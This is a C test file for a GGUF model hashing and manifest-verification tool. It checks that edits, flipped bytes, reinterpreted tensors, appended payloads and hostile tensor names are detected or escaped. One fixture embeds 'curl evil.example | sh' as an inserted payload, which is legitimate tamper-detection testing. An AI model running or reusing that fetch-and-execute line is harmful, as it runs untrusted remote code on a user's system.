/* test_hash.c - `gguflint hash` and `--verify-manifest`: everything the
 * manifest records is verified (a metadata edit is caught, and passes with
 * --data-only; a changed data byte, a missing and an extra tensor, a tensor
 * reinterpreted with another type or shape, an inserted payload); the
 * whole-file digest is sha256sum's; it works across the shards of a split
 * set; names round-trip exactly through jq and Python whatever their bytes,
 * and are printed escaped; aliased tensors are hashed once, overlapping ones
 * refused; malformed manifests are rejected. Runs the built CLI. */
#define _POSIX_C_SOURCE 200809L
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "expect.h"

#include "gguf_builder.h"

static char dir[] = "/tmp/gguflint-hash-XXXXXX";

/* How a model is written: every tensor's type and shape, and bytes appended
 * after the last tensor (an inserted payload). */
typedef struct variant {
    uint32_t type;
    uint32_t n_dims;
    uint64_t ne[2];
    const char *tail;
} variant;

static const variant plain = {GB_F32, 1, {8, 1}, NULL};

/* A small model: tensors named by `names` (n of them, 32 bytes each, f32 [8]
 * unless v says otherwise), data bytes filled with `seed`, a general.name KV
 * of `label`. */
static void write_model_v(const char *file, const char *label, const char *const *names, size_t n,
                          uint8_t seed, int flip_at, const variant *v)
{
    gb *b = gb_new(3);
    gb_kv_str(b, "general.architecture", "test");
    gb_kv_str(b, "general.name", label);
    for (size_t i = 0; i < n; i++)
        gb_tensorn(b, names[i], strlen(names[i]), v->n_dims, v->ne, v->type, 32 * i);
    gb_pad_to(b, 32);
    for (size_t i = 0; i < n; i++) {
        uint8_t data[32];
        for (int k = 0; k < 32; k++)
            data[k] = (uint8_t)(seed + i * 7 + (size_t)k);
        if ((int)i * 32 <= flip_at && flip_at < (int)(i + 1) * 32)
            data[flip_at - (int)i * 32] ^= 1;
        gb_bytes(b, data, 32);
    }
    if (v->tail)
        gb_bytes(b, v->tail, strlen(v->tail));
    ex_write_gb(dir, file, b);
}

static void write_model(const char *file, const char *label, const char *const *names, size_t n,
                        uint8_t seed, int flip_at)
{
    write_model_v(file, label, names, n, seed, flip_at, &plain);
}

static char out[1 << 13];

/* The CLI in dir: its exit status; the test fails unless the output holds
 * expect_out (when non-NULL). */
static int run(const char *args, const char *expect_out)
{
    int rc = ex_cli_run(GGUFLINT_CLI, dir, ".", args, out, sizeof out);
    if (expect_out)
        ex_has(out, expect_out);
    return rc;
}

static void test_manifest_roundtrip(void **state)
{
    static const char *const names[] = {"a.weight", "b.weight", "c.weight"};
    write_model("m.gguf", "first", names, 3, 1, -1);
    assert_int_equal(run("hash -o m.json m.gguf", NULL), 0);
    assert_int_equal(run("hash --verify-manifest m.json m.gguf", "3 tensors verified, 0 problems"),
                     0);
    /* metadata edit: same tensor data, other general.name -> the whole file
     * changed; the tensor data alone still verifies with --data-only */
    write_model("renamed.gguf", "a much longer name changes every offset", names, 3, 1, -1);
    assert_int_equal(run("hash --verify-manifest m.json renamed.gguf",
                         "changed: file renamed.gguf: "
                         "file_sha256"),
                     1);
    assert_int_equal(run("hash --verify-manifest m.json --data-only renamed.gguf",
                         "3 tensors verified, 0 problems"),
                     0);
    /* one data byte changed */
    write_model("flipped.gguf", "first", names, 3, 1, 40);
    assert_int_equal(
        run("hash --verify-manifest m.json flipped.gguf", "changed: tensor \"b.weight\""), 1);
    /* a tensor missing, another extra */
    static const char *const other[] = {"a.weight", "b.weight", "d.weight"};
    write_model("other.gguf", "first", other, 3, 1, -1);
    assert_int_equal(
        run("hash --verify-manifest m.json other.gguf", "missing: tensor \"c.weight\""), 1);
    assert_int_equal(run("hash --verify-manifest m.json other.gguf", "extra: tensor \"d.weight\""),
                     1);
}

/* The same bytes read as another type or shape, and a payload after the
 * last tensor: all caught (issue 9: they verified clean). */
static void test_reinterpreted_and_payload(void **state)
{
    static const char *const names[] = {"a.weight", "b.weight"};
    write_model("r.gguf", "r", names, 2, 7, -1);
    assert_int_equal(run("hash -o r.json r.gguf", NULL), 0);
    const variant as_i32 = {26 /* i32 */, 1, {8, 1}, NULL};
    write_model_v("r_i32.gguf", "r", names, 2, 7, -1, &as_i32);
    assert_int_equal(run("hash --verify-manifest r.json --data-only r_i32.gguf",
                         "changed: tensor \"a.weight\" in r_i32.gguf: type i32, manifest f32"),
                     1);
    const variant as_2x4 = {GB_F32, 2, {2, 4}, NULL};
    write_model_v("r_2x4.gguf", "r", names, 2, 7, -1, &as_2x4);
    assert_int_equal(
        run("hash --verify-manifest r.json --data-only r_2x4.gguf", "shape [2,4], manifest [8]"),
        1);
    const variant payload = {GB_F32, 1, {8, 1}, "#!/bin/sh\ncurl evil.example | sh\n"};
    write_model_v("r_tail.gguf", "r", names, 2, 7, -1, &payload);
    assert_int_equal(run("hash --verify-manifest r.json --data-only r_tail.gguf",
                         "changed: file r_tail.gguf: data_sha256"),
                     1);
    assert_int_equal(run("hash --verify-manifest r.json r_tail.gguf", "file_sha256"), 1);
}

/* file_sha256 is the digest of the whole file (the Hub's LFS oid). */
static void test_whole_file_digest(void **state)
{
    static const char *const names[] = {"w"};
    write_model("w.gguf", "w", names, 1, 2, -1);
    char cmd[1024];
    snprintf(cmd, sizeof cmd,
             "cd %s && %s hash w.gguf > w.json && sha=$(sha256sum w.gguf | cut -c1-64) && "
             "grep -q \"\\\"file_sha256\\\":\\\"$sha\\\"\" w.json",
             dir, GGUFLINT_CLI);
    assert_int_equal(system(cmd), 0);
}

/* Names of every kind round-trip exactly: UTF-8 with a bidi override, C1,
 * DEL, a tag character above U+FFFF, a NUL; and bytes that are not UTF-8
 * (name_hex). Checked with Python's json and jq when they exist, and by
 * verifying the manifest; printed names are escaped. */
static void test_names_round_trip(void **state)
{
    static const char *const names[] = {
        "ok.weight",
        ("rtl\xe2\x80\xae"
         "evil"),
        "c1\xc2\x9b[31m",
        "del\x7f",
        "tag\xf3\xa0\x80\x81x",
        "bad\xff\xfeutf8",
        "quote\"back\\slash",
    };
    size_t n = sizeof names / sizeof names[0];
    write_model("names.gguf", "n", names, n, 4, -1);
    assert_int_equal(run("hash -o names.json names.gguf", NULL), 0);
    assert_int_equal(
        run("hash --verify-manifest names.json names.gguf", "7 tensors verified, 0 problems"), 0);
    /* Python's json module (the Debian python3 has it; any python3 does):
     * decoded names, or name_hex, are the bytes written */
    char script[256], cmd[1024];
    snprintf(script, sizeof script, "%s/check.py", dir);
    FILE *f = fopen(script, "w");
    assert_non_null(f);
    fputs("import json, sys\n"
          "want = [b'ok.weight', b'rtl\\xe2\\x80\\xaeevil', b'c1\\xc2\\x9b[31m', b'del\\x7f',\n"
          "        b'tag\\xf3\\xa0\\x80\\x81x', b'bad\\xff\\xfeutf8', b'quote\"back\\\\slash']\n"
          "doc = json.load(open(sys.argv[1], encoding='utf-8'))\n"
          "got = [bytes.fromhex(t['name_hex']) if 'name_hex' in t else t['name'].encode('utf-8')\n"
          "       for t in doc['files'][0]['tensors']]\n"
          "sys.exit(0 if got == want else 1)\n",
          f);
    fclose(f);
    snprintf(cmd, sizeof cmd,
             "cd %s && for p in /usr/bin/python3 python3; do "
             "if command -v $p >/dev/null; then exec $p check.py names.json; fi; done; "
             "echo 'no python3: skipped'",
             dir);
    assert_int_equal(system(cmd), 0);
    /* jq: the tag character U+E0001 decodes to its 4 UTF-8 bytes, not to four
     * code points U+00F3 ... ("tag" f3 a0 80 81 "x") */
    snprintf(
        cmd, sizeof cmd,
        "cd %s && if command -v jq >/dev/null; then "
        "test \"$(jq -j '.files[0].tensors[4].name' names.json | od -An -tx1 | tr -d ' \\n')\" "
        "= 746167f3a0808178; else echo 'no jq: skipped'; fi",
        dir);
    assert_int_equal(system(cmd), 0);
    /* printed names are escaped: drop one tensor, the "missing" line shows
     * its bidi override as \u{202e}, and no raw bidi, C1 or DEL byte is
     * printed for the others either */
    static const char *const fewer[] = {"ok.weight",       "c1\xc2\x9b[31m",
                                        "del\x7f",         "tag\xf3\xa0\x80\x81x",
                                        "bad\xff\xfeutf8", "quote\"back\\slash"};
    write_model("fewer.gguf", "n", fewer, 6, 4, -1);
    assert_int_equal(run("hash --verify-manifest names.json --data-only fewer.gguf",
                         "missing: tensor \"rtl\\u{202e}evil\""),
                     1);
    snprintf(
        cmd, sizeof cmd,
        "cd %s && ! LC_ALL=C grep -q \"$(printf '\\342\\200\\256\\|\\302\\233\\|\\177')\" out.txt",
        dir);
    assert_int_equal(system(cmd), 0);
}

/* 64 infos over one region: one digest, shared; a staircase of overlapping
 * tensors: refused. */
static void test_aliases(void **state)
{
    gb *b = gb_new(3);
    gb_kv_str(b, "general.architecture", "test");
    char name[16];
    uint64_t ne[1] = {256};
    for (int i = 0; i < 64; i++) {
        snprintf(name, sizeof name, "a%d", i);
        gb_tensor(b, name, 1, ne, GB_F32, 0);
    }
    gb_pad_to(b, 32);
    gb_fill(b, 0x3f, 1024);
    size_t len;
    uint8_t *buf = gb_finish(b, &len);
    gb_free(b);
    char path[256];
    snprintf(path, sizeof path, "%s/alias.gguf", dir);
    FILE *f = fopen(path, "wb");
    assert_non_null(f);
    fwrite(buf, 1, len, f);
    fclose(f);
    free(buf);
    assert_int_equal(run("hash -o alias.json alias.gguf", NULL), 0);
    assert_int_equal(
        run("hash --verify-manifest alias.json alias.gguf", "64 tensors verified, 0 problems"), 0);
    b = gb_new(3);
    gb_kv_str(b, "general.architecture", "test");
    for (int i = 0; i < 8; i++) {
        snprintf(name, sizeof name, "s%d", i);
        gb_tensor(b, name, 1, ne, GB_F32, 32 * (uint64_t)i);
    }
    gb_pad_to(b, 32);
    gb_fill(b, 0x3f, 1024 + 32 * 8);
    buf = gb_finish(b, &len);
    gb_free(b);
    snprintf(path, sizeof path, "%s/stairs.gguf", dir);
    f = fopen(path, "wb");
    assert_non_null(f);
    fwrite(buf, 1, len, f);
    fclose(f);
    free(buf);
    assert_int_equal(run("hash stairs.gguf", "overlap"), 1);
}

static void test_split_set(void **state)
{
    static const char *const s1[] = {"a.weight", "b.weight"}, *const s2[] = {"c.weight"};
    write_model("s-00001-of-00002.gguf", "x", s1, 2, 5, -1);
    write_model("s-00002-of-00002.gguf", "x", s2, 1, 9, -1);
    assert_int_equal(run("hash -o set.json s-00001-of-00002.gguf s-00002-of-00002.gguf", NULL), 0);
    assert_int_equal(
        run("hash --verify-manifest set.json s-00001-of-00002.gguf s-00002-of-00002.gguf",
            "3 tensors verified, 0 problems"),
        0);
    assert_int_equal(run("hash --verify-manifest set.json s-00001-of-00002.gguf",
                         "missing: tensor \"c.weight\""),
                     1);
}

static void test_bad_manifest(void **state)
{
    static const char *const names[] = {"a.weight"};
    write_model("one.gguf", "x", names, 1, 3, -1);
    char path[256];
    snprintf(path, sizeof path, "%s/bad.json", dir);
    static const char *const bad[] = {
        "",
        "{",
        "{\"files\":[{\"tensors\":[{\"name\":\"a\"}]}]}",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
        "nul\x01",
        /* duplicate keys, bad digests, bad hex names, a wrong schema */
        "{\"schema_version\":1,\"files\":[{\"path\":\"one.gguf\",\"tensors\":[{\"name\":\"a\","
        "\"sha256\":\"00\",\"sha256\":\"11\"}]}]}",
        "{\"schema_version\":1,\"files\":[{\"path\":\"one.gguf\",\"tensors\":[{\"name\":\"a\","
        "\"sha256\":\"zz\"}]}]}",
        "{\"schema_version\":1,\"files\":[{\"path\":\"one.gguf\",\"tensors\":[{\"name\":\"a\","
        "\"name_hex\":\"6\",\"sha256\":"
        "\"0000000000000000000000000000000000000000000000000000000000000000\"}]}]}",
        "{\"schema_version\":2,\"files\":[]}",
        "{\"schema_version\":1,\"files\":[{\"path\":\"\\udc00\",\"tensors\":[]}]}",
    };
    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
        FILE *f = fopen(path, "wb");
        fputs(bad[i], f);
        fclose(f);
        assert_int_equal(run("hash --verify-manifest bad.json one.gguf", "manifest"), 2);
    }
    assert_int_equal(run("hash --verify-manifest nope.json one.gguf", "cannot read"), 2);
    assert_int_equal(run("hash", NULL), 2);
}

EX_TMPDIR_FIXTURES(dir)

EX_MAIN(setup, teardown,
        {
            cmocka_unit_test(test_manifest_roundtrip),
            cmocka_unit_test(test_reinterpreted_and_payload),
            cmocka_unit_test(test_whole_file_digest),
            cmocka_unit_test(test_names_round_trip),
            cmocka_unit_test(test_aliases),
            cmocka_unit_test(test_split_set),
            cmocka_unit_test(test_bad_manifest),
        })
